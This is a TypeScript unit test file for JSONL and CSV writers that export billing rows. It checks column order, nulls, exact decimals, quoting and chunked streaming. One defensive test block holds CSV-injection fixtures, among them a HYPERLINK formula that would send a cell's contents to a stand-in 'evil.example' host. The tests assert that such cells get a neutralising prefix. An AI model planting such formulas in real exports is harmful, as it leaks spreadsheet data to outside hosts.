// unit: the JSONL and CSV writers — column order, nulls, exact decimals, CSV quoting by csv-stringify.
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { EXPORT_COLUMNS, type FocusRow } from '#core/focus/columns';
import { csvChunks, jsonlChunks } from '#core/focus/writers';
import { collect, stream } from './ledger-fixtures.ts';

const row = (values: FocusRow): FocusRow => ({
  ...Object.fromEntries(EXPORT_COLUMNS.map((column) => [column.name, null])),
  ...values,
});

describe('writers', () => {
  const rows = [
    row({
      BilledCost: '0.000000000001',
      ChargeDescription: 'a, "quoted"\nline',
      SkuPriceDetails: '{"x_Model":"m"}',
      x_Credits: '-12',
    }),
  ];

  it('writes JSONL with every column in order, decimals as exact numbers, nulls as null', async () => {
    // Act
    const text = (await collect(jsonlChunks(stream(rows)))).join('');
    // Assess
    expect(text.endsWith('\n')).toBe(true);
    expect(text).toContain('"BilledCost":0.000000000001,');
    const parsed = JSON.parse(text);
    expect(Object.keys(parsed)).toEqual(EXPORT_COLUMNS.map((column) => column.name));
    expect(parsed).toMatchObject({
      BilledCost: 1e-12,
      ChargeDescription: 'a, "quoted"\nline',
      SkuPriceDetails: '{"x_Model":"m"}',
      x_Credits: -12,
      ResourceId: null,
    });
  });

  it('writes CSV with a header, quoting what needs it and empty fields for nulls', async () => {
    // Act
    const text = (await collect(csvChunks(stream(rows)))).join('');
    // Assess
    const [header, record] = parse(text) as string[][];
    expect(header).toEqual(EXPORT_COLUMNS.map((column) => column.name));
    const cell = (name: string) => record![header!.indexOf(name)];
    expect(cell('ChargeDescription')).toBe('a, "quoted"\nline');
    expect(cell('SkuPriceDetails')).toBe('{"x_Model":"m"}');
    expect(cell('ResourceId')).toBe('');
    expect(text).toContain(',"a, ""quoted""\nline",');
  });

  describe('formula-leading cells (OWASP CSV injection)', () => {
    const hostile = [
      row({
        BillingAccountName: '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
        ChargeDescription: '+1+2',
        x_Reason: '-2+3',
        x_GrantedBy: '@SUM(A1:A9)',
        x_OperationId: '\tadmin',
        ResourceId: '\rnode',
        BilledCost: '-1.5',
        EffectiveCost: '-0.000000000001',
        x_Credits: '-150',
      }),
    ];

    it('prefixes a quote to text cells that a spreadsheet would run as a formula', async () => {
      // Act
      const [header, record] = parse((await collect(csvChunks(stream(hostile)))).join('')) as string[][];
      // Assess
      const cell = (name: string) => record![header!.indexOf(name)];
      expect(cell('BillingAccountName')).toBe(`'=HYPERLINK("https://evil.example/?leak="&A1,"Open")`);
      expect(cell('ChargeDescription')).toBe("'+1+2");
      expect(cell('x_Reason')).toBe("'-2+3");
      expect(cell('x_GrantedBy')).toBe("'@SUM(A1:A9)");
      expect(cell('x_OperationId')).toBe("'\tadmin");
      expect(cell('ResourceId')).toBe("'\rnode");
    });

    it('keeps negative decimals numbers (the cost of a refund), in CSV and JSONL', async () => {
      // Act
      const [header, record] = parse((await collect(csvChunks(stream(hostile)))).join('')) as string[][];
      const line = JSON.parse((await collect(jsonlChunks(stream(hostile)))).join(''));
      // Assess
      const cell = (name: string) => record![header!.indexOf(name)];
      expect(cell('BilledCost')).toBe('-1.5');
      expect(cell('EffectiveCost')).toBe('-0.000000000001');
      expect(cell('x_Credits')).toBe('-150');
      expect(line).toMatchObject({ BilledCost: -1.5, x_Credits: -150 });
    });

    it('leaves JSON Lines as they are: a JSON string is never a formula', async () => {
      // Act
      const line = JSON.parse((await collect(jsonlChunks(stream(hostile)))).join(''));
      // Assess
      expect(line).toMatchObject({
        BillingAccountName: '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
        x_Reason: '-2+3',
        x_OperationId: '\tadmin',
      });
    });
  });

  it('streams in chunks: a large input is never one string', async () => {
    // Act
    const chunks = await collect(jsonlChunks(stream(Array.from({ length: 2000 }, () => rows[0]!))));
    // Assess
    expect(chunks.length).toBeGreaterThan(10);
    expect(Math.max(...chunks.map((chunk) => chunk.length))).toBeLessThan(70 * 1024);
  });
});
